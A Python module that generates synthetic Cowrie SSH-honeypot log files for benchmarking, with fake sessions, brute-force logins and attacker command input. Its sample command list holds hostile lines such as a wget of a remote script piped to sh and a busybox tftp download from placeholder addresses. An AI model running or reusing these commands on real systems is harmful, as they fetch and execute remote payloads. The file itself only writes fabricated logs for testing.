"""Synthetic Cowrie days for benchmarks: time-ordered JSON event lines with exactly N distinct source IPs.
Usable as a module (`write_day`) and as a script: `python -m bench.synthetic_logs DIR DAY --ips N --events M`."""

from __future__ import annotations

import argparse
import datetime
import gzip
import heapq
import ipaddress
import itertools
import json
import random
import sys
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any, TextIO

SENSOR = "b3nchs3ns0r1"
HONEYPOT_IP = "172.17.0.3"
HONEYPOT_PORT = 2222
IPV6_SHARE = 0.01  # dual-stack sensors log a few IPv6 peers
_DAY_SECONDS = 86_400
_SESSION_START_MARGIN_S = 3_600  # sessions start early enough to end before midnight
_MEAN_EVENT_GAP_S = 0.4  # the sample days: median gap 0.2 s, 90% under 1.3 s, sessions ~1.3 s long
_MAX_EVENT_GAP_S = 30.0
# Long arrays like the real `cowrie.client.version` events: they make up much of a real log's bytes.
_KEX = [
    "curve25519-sha256@libssh.org",
    "ecdh-sha2-nistp256",
    "ecdh-sha2-nistp384",
    "ecdh-sha2-nistp521",
    "diffie-hellman-group-exchange-sha256",
    "diffie-hellman-group14-sha1",
    "ext-info-c",
]
_KEYS = ["ssh-ed25519", "ecdsa-sha2-nistp256", "rsa-sha2-512", "rsa-sha2-256", "ssh-rsa"]
_CIPHERS = ["aes256-gcm@openssh.com", "chacha20-poly1305@openssh.com", "aes256-ctr", "aes128-ctr", "aes128-cbc"]
_MACS = ["hmac-sha2-256-etm@openssh.com", "hmac-sha1-etm@openssh.com", "hmac-sha2-256", "hmac-sha1"]
_CLIENTS = ["SSH-2.0-OpenSSH_7.7", "SSH-2.0-libssh2_1.8.0", "SSH-2.0-Go", "SSH-2.0-PUTTY", "SSH-2.0-paramiko_2.4.1"]
_USERS = ["root", "admin", "user", "pi", "ubnt", "support", "oracle", "test", "guest", "usuario"]
# Attacker-controlled text comes in any script and with quotes and backslashes; all of it stays valid JSON.
_PASSWORDS = ["123456", "admin", "password", "root", "1qaz@WSX", "pässwörd", "密码123", 'x"y\\z', "raspberry", ""]
_COMMANDS = [
    "uname -a",
    "cat /proc/cpuinfo | grep name | wc -l",
    "wget http://198.51.100.7/x.sh -O- | sh",
    "echo -e '\\x41\\x42'",
    "cd /tmp; busybox tftp -g 192.0.2.1",
]


@dataclass(frozen=True)
class SyntheticDay:
    """What was written: the file, its distinct source IPs (canonical text), event and session counts."""

    path: Path
    ips: tuple[str, ...]
    events: int
    sessions: int


def synthetic_ips(count: int, rng: random.Random, ipv6_share: float = IPV6_SHARE) -> list[str]:
    """`count` distinct, globally routable addresses in canonical text, a share of them IPv6."""
    chosen: dict[str, None] = {}
    while len(chosen) < count:
        if rng.random() < ipv6_share:
            address: ipaddress.IPv4Address | ipaddress.IPv6Address = ipaddress.IPv6Address(
                (0x2 << 125) | rng.getrandbits(125)  # 2000::/3, global unicast
            )
        else:
            address = ipaddress.IPv4Address(rng.getrandbits(32))
        if address.is_global:
            chosen[address.compressed] = None
    return list(chosen)


def events_per_ip(ip_count: int, event_count: int, rng: random.Random) -> list[int]:
    """Split `event_count` over the IPs, each at least one; a few noisy IPs take a large share, as in real days."""
    if ip_count < 1 or event_count < ip_count:
        raise ValueError(f"need at least one IP and one event per IP, got {ip_count} IPs, {event_count} events")
    counts = [1] * ip_count
    # Zipf-like weights over a shuffled order: heavy hitters are spread across the address list.
    weights = [1.0 / rank for rank in range(1, ip_count + 1)]
    rng.shuffle(weights)
    cumulative = list(itertools.accumulate(weights))
    for index in rng.choices(range(ip_count), cum_weights=cumulative, k=event_count - ip_count):
        counts[index] += 1
    return counts


class _SessionWriter:
    """Builds the events of one SSH session: connect, a protocol-dependent middle, closed."""

    def __init__(self, rng: random.Random) -> None:
        self._rng = rng

    def session_lengths(self, events: int) -> Iterator[int]:
        """Split one IP's events into sessions of 1..12 events (mostly short scans and brute-force tries)."""
        while events > 0:
            length = min(events, self._rng.choice((2, 2, 3, 4, 5, 6, 8, 12)))
            events -= length
            yield length

    def events(self, ip: str, length: int) -> list[tuple[float, dict[str, Any]]]:
        rng = self._rng
        session = f"{rng.getrandbits(48):012x}"
        clock = rng.uniform(0, _DAY_SECONDS - _SESSION_START_MARGIN_S)  # seconds after midnight
        src_port = rng.randrange(1024, 65536)
        base = {"session": session, "src_ip": ip, "sensor": SENSOR, "isError": 0}
        system = f"HoneyPotSSHTransport,{rng.randrange(100000)},{ip}"
        out: list[tuple[float, dict[str, Any]]] = [
            (
                clock,
                {
                    "eventid": "cowrie.session.connect",
                    **base,
                    "src_port": src_port,
                    "dst_ip": HONEYPOT_IP,
                    "dst_port": HONEYPOT_PORT,
                    "protocol": "ssh",
                    "system": "cowrie.ssh.factory.CowrieSSHFactory",
                    "message": f"New connection: {ip}:{src_port} ({HONEYPOT_IP}:{HONEYPOT_PORT}) [session: {session}]",
                },
            )
        ]
        started = clock
        middle = length - 2  # a one-event session is a connection still open at rotation
        for position in range(max(middle, 0)):
            clock += _gap(rng)
            out.append((clock, {**base, "system": system, **self._middle_event(position, middle)}))
        if length >= 2:
            clock += _gap(rng)
            out.append(
                (
                    clock,
                    {
                        "eventid": "cowrie.session.closed",
                        **base,
                        "system": system,
                        "duration": round(clock - started, 6),
                        "message": f"Connection lost after {int(clock - started)} seconds",
                    },
                )
            )
        return out

    def _middle_event(self, position: int, count: int) -> dict[str, Any]:
        rng = self._rng
        if position == 0:
            version = rng.choice(_CLIENTS)
            return {
                "eventid": "cowrie.client.version",
                "version": version,
                "message": f"Remote SSH version: {version}",
                "kexAlgs": _KEX,
                "keyAlgs": _KEYS,
                "encCS": _CIPHERS,
                "macCS": _MACS,
                "compCS": ["none", "zlib"],
            }
        username, password = rng.choice(_USERS), rng.choice(_PASSWORDS)
        if position < count - 2 or count < 4:
            return {
                "eventid": "cowrie.login.failed",
                "username": username,
                "password": password,
                "message": f"login attempt [{username}/{password}] failed",
            }
        if position == count - 2:
            return {
                "eventid": "cowrie.login.success",
                "username": username,
                "password": password,
                "message": f"login attempt [{username}/{password}] succeeded",
            }
        command = rng.choice(_COMMANDS)
        return {"eventid": "cowrie.command.input", "input": command, "message": f"CMD: {command}"}


def _gap(rng: random.Random) -> float:
    """Seconds between two events of a session: mostly fractions of a second, as in the real sample days."""
    return min(rng.expovariate(1 / _MEAN_EVENT_GAP_S), _MAX_EVENT_GAP_S)


def _timestamp(date_prefix: str, seconds_after_midnight: float) -> str:
    # Arithmetic instead of strftime: this runs once per event line.
    micros = int(seconds_after_midnight * 1_000_000)
    seconds, micros = divmod(micros, 1_000_000)
    minutes, seconds = divmod(seconds, 60)
    hours, minutes = divmod(minutes, 60)
    return f"{date_prefix}T{hours:02d}:{minutes:02d}:{seconds:02d}.{micros:06d}Z"


def write_day(
    directory: str | Path,
    day: datetime.date,
    *,
    ips: int,
    events: int,
    seed: int = 0,
    gzipped: bool = False,
) -> SyntheticDay:
    """Write `cowrie.json.<day>` (or `.gz`) with exactly `ips` distinct source IPs and `events` lines.

    Sessions start at random times over the day and their events interleave in time order, as Cowrie
    writes them. The same arguments always give the same bytes.
    """
    rng = random.Random(seed)
    addresses = synthetic_ips(ips, rng)
    builder = _SessionWriter(rng)
    sessions = [
        builder.events(ip, length)
        for ip, count in zip(addresses, events_per_ip(ips, events, rng), strict=False)
        for length in builder.session_lengths(count)
    ]
    path = Path(directory) / f"cowrie.json.{day.isoformat()}{'.gz' if gzipped else ''}"
    path.parent.mkdir(parents=True, exist_ok=True)
    # compresslevel 1: the benchmark measures reading, not how long we spent compressing.
    with (
        gzip.open(path, "wt", encoding="utf-8", compresslevel=1) if gzipped else open(path, "w", encoding="utf-8")
    ) as stream:
        written = _write_in_time_order(stream, sessions, day.isoformat())
    return SyntheticDay(path, tuple(addresses), written, len(sessions))


def _write_in_time_order(
    stream: TextIO, sessions: Sequence[list[tuple[float, dict[str, Any]]]], date_prefix: str
) -> int:
    # Each session is already in time order: a k-way merge interleaves concurrent sessions.
    # The session index breaks ties so dicts are never compared.
    keyed = ([(moment, index, event) for moment, event in session] for index, session in enumerate(sessions))
    written = 0
    dumps = json.dumps  # the stdlib's default separators, like Cowrie's own JSON output
    batch: list[str] = []
    for moment, _, event in heapq.merge(*keyed):
        event["timestamp"] = _timestamp(date_prefix, moment)
        batch.append(dumps(event))
        if len(batch) == 10_000:
            stream.write("\n".join(batch) + "\n")
            written += len(batch)
            batch.clear()
    if batch:
        stream.write("\n".join(batch) + "\n")
        written += len(batch)
    return written


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description="Write a synthetic Cowrie log day (fabricated, for benchmarks).")
    parser.add_argument("directory", type=Path)
    parser.add_argument("day", type=datetime.date.fromisoformat, help="YYYY-MM-DD")
    parser.add_argument("--ips", type=int, required=True, help="distinct source IPs")
    parser.add_argument("--events", type=int, help="event lines (default 10 per IP)")
    parser.add_argument("--seed", type=int, default=0)
    parser.add_argument("--gzip", action="store_true", help="write cowrie.json.<day>.gz")
    args = parser.parse_args(argv)
    written = write_day(
        args.directory, args.day, ips=args.ips, events=args.events or 10 * args.ips, seed=args.seed, gzipped=args.gzip
    )
    print(f"{written.path}: {len(written.ips)} IPs, {written.events} events, {written.sessions} sessions")
    return 0


if __name__ == "__main__":
    sys.exit(main())
